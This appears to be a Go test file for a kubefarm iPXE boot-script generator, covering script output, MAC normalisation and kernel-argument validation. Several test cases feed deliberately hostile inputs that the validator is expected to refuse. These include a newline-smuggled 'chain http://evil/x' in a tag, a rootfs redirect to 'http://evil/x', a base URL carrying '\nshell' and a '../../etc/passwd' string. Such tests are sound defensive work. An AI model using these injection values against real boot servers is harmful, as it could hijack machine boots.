package httpboot

import (
	"strings"
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	kubefarmv1 "github.com/kubefarm/kubefarm/api/v1alpha1"
	"github.com/kubefarm/kubefarm/pxe/bootproto"
)

func digestOf(c byte) string { return "sha256:" + strings.Repeat(string(c), 64) }

var (
	dK  = digestOf('a')
	dI  = digestOf('b')
	dR  = digestOf('c')
	dK2 = digestOf('d')
	dI2 = digestOf('e')
	dR2 = digestOf('f')
)

func image(name, k, i, r string) *kubefarmv1.BootImage {
	return &kubefarmv1.BootImage{
		ObjectMeta: metav1.ObjectMeta{Name: name},
		Spec: kubefarmv1.BootImageSpec{
			Kernel: kubefarmv1.Artifact{Digest: k},
			Initrd: kubefarmv1.Artifact{Digest: i},
			Rootfs: kubefarmv1.Artifact{Digest: r},
		},
	}
}

func pool() *kubefarmv1.NodePool {
	return &kubefarmv1.NodePool{
		ObjectMeta: metav1.ObjectMeta{Namespace: "t1", Name: "workers"},
		Spec: kubefarmv1.NodePoolSpec{
			BootImage:  "new",
			KernelArgs: []string{"console=ttyS0,115200n8", "quiet"},
			Tags: map[string]kubefarmv1.TagSpec{
				"gpu":   {KernelArgs: []string{"nouveau.modeset=0"}},
				"debug": {KernelArgs: []string{"debug", "loglevel=7"}},
				"bad":   {KernelArgs: []string{"a\nchain http://evil/x"}},
			},
		},
	}
}

func machine(desired string, served *kubefarmv1.ImageRef, tags ...string) *kubefarmv1.Machine {
	return &kubefarmv1.Machine{
		ObjectMeta: metav1.ObjectMeta{Namespace: "t1", Name: "m1"},
		Spec: kubefarmv1.MachineSpec{
			Pool: "workers", MACs: []string{"02:00:00:00:00:01"}, DesiredImage: desired, Tags: tags,
		},
		Status: kubefarmv1.MachineStatus{ServedImage: served},
	}
}

const base = "http://10.0.0.2:8080"

// amd64Check is the start of every script for an amd64 image: an iPXE
// built for ARM goes to the refusal at the end, before fetching anything.
const amd64Check = "iseq ${buildarch} arm64 && goto kubefarm_wrong_arch ||\n" +
	"iseq ${buildarch} arm32 && goto kubefarm_wrong_arch ||\n"

// refusal is the end of a script, reached only from the architecture check.
func refusal(image, arch string) string {
	return ":kubefarm_wrong_arch\n" +
		"echo kubefarm: BootImage " + image + " is for " + arch + ", this machine's iPXE is ${buildarch}: list it in a pool whose image matches\n" +
		"sleep 60\nexit 1\n"
}

func arm64(img *kubefarmv1.BootImage) *kubefarmv1.BootImage {
	img = img.DeepCopy()
	img.Spec.Architecture = "arm64"
	return img
}

func TestScript(t *testing.T) {
	oldImg := image("old", dK, dI, dR)
	newImg := image("new", dK2, dI2, dR2)
	for _, tc := range []struct {
		name    string
		m       *kubefarmv1.Machine
		img     *kubefarmv1.BootImage
		pool    func(*kubefarmv1.NodePool)
		base    string
		want    string
		wantErr string
	}{
		{
			name: "served image wins over desired",
			m:    machine("new", &kubefarmv1.ImageRef{Name: "old", Digest: dR}, "debug", "gpu"),
			img:  oldImg,
			want: "#!ipxe\n" + amd64Check +
				"kernel " + base + "/artifacts/" + dK + " console=ttyS0,115200n8 quiet debug loglevel=7 nouveau.modeset=0" +
				" initrd=initrd initrd=bootsecret kubefarm.image=" + dR + " kubefarm.rootfs=" + base + "/artifacts/" + dR + " kubefarm.server=" + base + " BOOTIF=01-${netX/mac:hexhyp}\n" +
				"initrd --name initrd " + base + "/artifacts/" + dI + "\n" +
				"initrd --name bootsecret " + base + "/secret/${netX/mac}\n" +
				"boot\n" + refusal("old", "amd64"),
		},
		{
			name:    "desired image is not served while another is pinned",
			m:       machine("new", &kubefarmv1.ImageRef{Name: "old", Digest: dR}),
			img:     newImg,
			wantErr: "is not the machine's image",
		},
		{
			name: "first boot falls back to desired",
			m:    machine("new", nil, "gpu", "debug"),
			img:  newImg,
			want: "#!ipxe\n" + amd64Check +
				"kernel " + base + "/artifacts/" + dK2 + " console=ttyS0,115200n8 quiet nouveau.modeset=0 debug loglevel=7" +
				" initrd=initrd initrd=bootsecret kubefarm.image=" + dR2 + " kubefarm.rootfs=" + base + "/artifacts/" + dR2 + " kubefarm.server=" + base + " BOOTIF=01-${netX/mac:hexhyp}\n" +
				"initrd --name initrd " + base + "/artifacts/" + dI2 + "\n" +
				"initrd --name bootsecret " + base + "/secret/${netX/mac}\n" +
				"boot\n" + refusal("new", "amd64"),
		},
		{
			name: "arm64 image: only an arm64 iPXE goes on",
			m:    machine("new", nil),
			img:  arm64(newImg),
			want: "#!ipxe\n" +
				"iseq ${buildarch} arm64 || goto kubefarm_wrong_arch\n" +
				"kernel " + base + "/artifacts/" + dK2 + " console=ttyS0,115200n8 quiet" +
				" initrd=initrd initrd=bootsecret kubefarm.image=" + dR2 + " kubefarm.rootfs=" + base + "/artifacts/" + dR2 + " kubefarm.server=" + base + " BOOTIF=01-${netX/mac:hexhyp}\n" +
				"initrd --name initrd " + base + "/artifacts/" + dI2 + "\n" +
				"initrd --name bootsecret " + base + "/secret/${netX/mac}\n" +
				"boot\n" + refusal("new", "arm64"),
		},
		{
			name: "no pool args",
			m:    machine("new", nil),
			img:  newImg,
			pool: func(p *kubefarmv1.NodePool) { p.Spec.KernelArgs = nil },
			base: "http://10.0.0.2",
			want: "#!ipxe\n" + amd64Check +
				"kernel http://10.0.0.2/artifacts/" + dK2 +
				" initrd=initrd initrd=bootsecret kubefarm.image=" + dR2 + " kubefarm.rootfs=http://10.0.0.2/artifacts/" + dR2 + " kubefarm.server=http://10.0.0.2 BOOTIF=01-${netX/mac:hexhyp}\n" +
				"initrd --name initrd http://10.0.0.2/artifacts/" + dI2 + "\n" +
				"initrd --name bootsecret http://10.0.0.2/secret/${netX/mac}\n" +
				"boot\n" + refusal("new", "amd64"),
		},
		{
			name:    "pinned digest disagrees with the image",
			m:       machine("new", &kubefarmv1.ImageRef{Name: "new", Digest: dR}),
			img:     newImg,
			wantErr: "pins rootfs",
		},
		{name: "undefined tag", m: machine("new", nil, "nope"), img: newImg, wantErr: `tag "nope" is not defined`},
		{name: "newline injection via tag", m: machine("new", nil, "bad"), img: newImg, wantErr: "whitespace"},
		{name: "comment line", m: machine("new", nil), img: newImg, pool: func(p *kubefarmv1.NodePool) { p.Spec.KernelArgs = []string{"#!ipxe"} }, wantErr: "starts with '#'"},
		{name: "setting expansion", m: machine("new", nil), img: newImg, pool: func(p *kubefarmv1.NodePool) { p.Spec.KernelArgs = []string{"x=${net0/ip}"} }, wantErr: "iPXE would interpret"},
		{name: "reserved kubefarm arg", m: machine("new", nil), img: newImg, pool: func(p *kubefarmv1.NodePool) { p.Spec.KernelArgs = []string{"kubefarm.rootfs=http://evil/x"} }, wantErr: "reserved"},
		// The script names the initrd; a pool's own initrd= would make a
		// UEFI kernel's EFI stub look for a file iPXE does not have.
		{name: "initrd= is the script's", m: machine("new", nil), img: newImg, pool: func(p *kubefarmv1.NodePool) { p.Spec.KernelArgs = []string{"initrd=" + dI2} }, wantErr: "initrd= is set by kubefarm-pxe"},
		{name: "too long", m: machine("new", nil), img: newImg, pool: func(p *kubefarmv1.NodePool) {
			p.Spec.KernelArgs = nil
			for i := 0; i < 10; i++ {
				p.Spec.KernelArgs = append(p.Spec.KernelArgs, "x="+strings.Repeat("y", 300))
			}
		}, wantErr: "over 2048"},
		{name: "bad digest", m: machine("new", nil), img: image("new", "sha256:XYZ", dI2, dR2), wantErr: "invalid digest"},
		{name: "bad base URL", m: machine("new", nil), img: newImg, base: "http://10.0.0.2/\nshell", wantErr: "base URL"},
		{name: "https base URL refused", m: machine("new", nil), img: newImg, base: "https://10.0.0.2", wantErr: "base URL"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p := pool()
			if tc.pool != nil {
				tc.pool(p)
			}
			b := tc.base
			if b == "" {
				b = base
			}
			got, err := Script(tc.m, tc.img, p, b)
			if tc.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
					t.Fatalf("err = %v, want one containing %q (script %q)", err, tc.wantErr, got)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if got != tc.want {
				t.Errorf("script:\n%s\nwant:\n%s", got, tc.want)
			}
		})
	}
}

func TestNormalizeMAC(t *testing.T) {
	for in, want := range map[string]string{
		"02:00:00:00:00:01":       "02:00:00:00:00:01",
		"AA:BB:CC:DD:EE:FF":       "aa:bb:cc:dd:ee:ff",
		"aa-bb-cc-dd-ee-0f":       "aa:bb:cc:dd:ee:0f",
		"Aa-Bb-Cc-Dd-Ee-Ff":       "aa:bb:cc:dd:ee:ff",
		"aa:bb-cc:dd:ee:ff":       "",
		"aabbccddeeff":            "",
		"aa:bb:cc:dd:ee:fg":       "",
		"aa:bb:cc:dd:ee:ff:00:11": "",
		"aa.bb.cc.dd.ee.ff":       "",
		"":                        "",
		"../../etc/passwd!":       "",
	} {
		got, err := bootproto.NormalizeMAC(in)
		if want == "" {
			if err == nil {
				t.Errorf("bootproto.NormalizeMAC(%q) = %q, want an error", in, got)
			}
			continue
		}
		if err != nil || got != want {
			t.Errorf("bootproto.NormalizeMAC(%q) = %q, %v; want %q", in, got, err, want)
		}
	}
}

func TestValidateKernelArg(t *testing.T) {
	for arg, ok := range map[string]bool{
		"console=ttyS0,115200n8": true,
		"quiet":                  true,
		"root=/dev/ram0":         true,
		"a=b=c":                  true,
		"":                       false,
		"a b":                    false,
		"a\tb":                   false,
		"a\nboot":                false,
		"a\r":                    false,
		"#comment":               false,
		"x=${ip}":                false,
		`x="y"`:                  false,
		"x=\\n":                  false,
		"kubefarm.image=x":       false,
		"initrd=initrd":          false,
		"initrd=/boot/ucode.img": false,
		"rd.initrd=x":            true,
		"é":                      false,
		strings.Repeat("a", 513): false,
	} {
		if err := ValidateKernelArg(arg); (err == nil) != ok {
			t.Errorf("ValidateKernelArg(%q) = %v, want ok=%v", arg, err, ok)
		}
	}
}
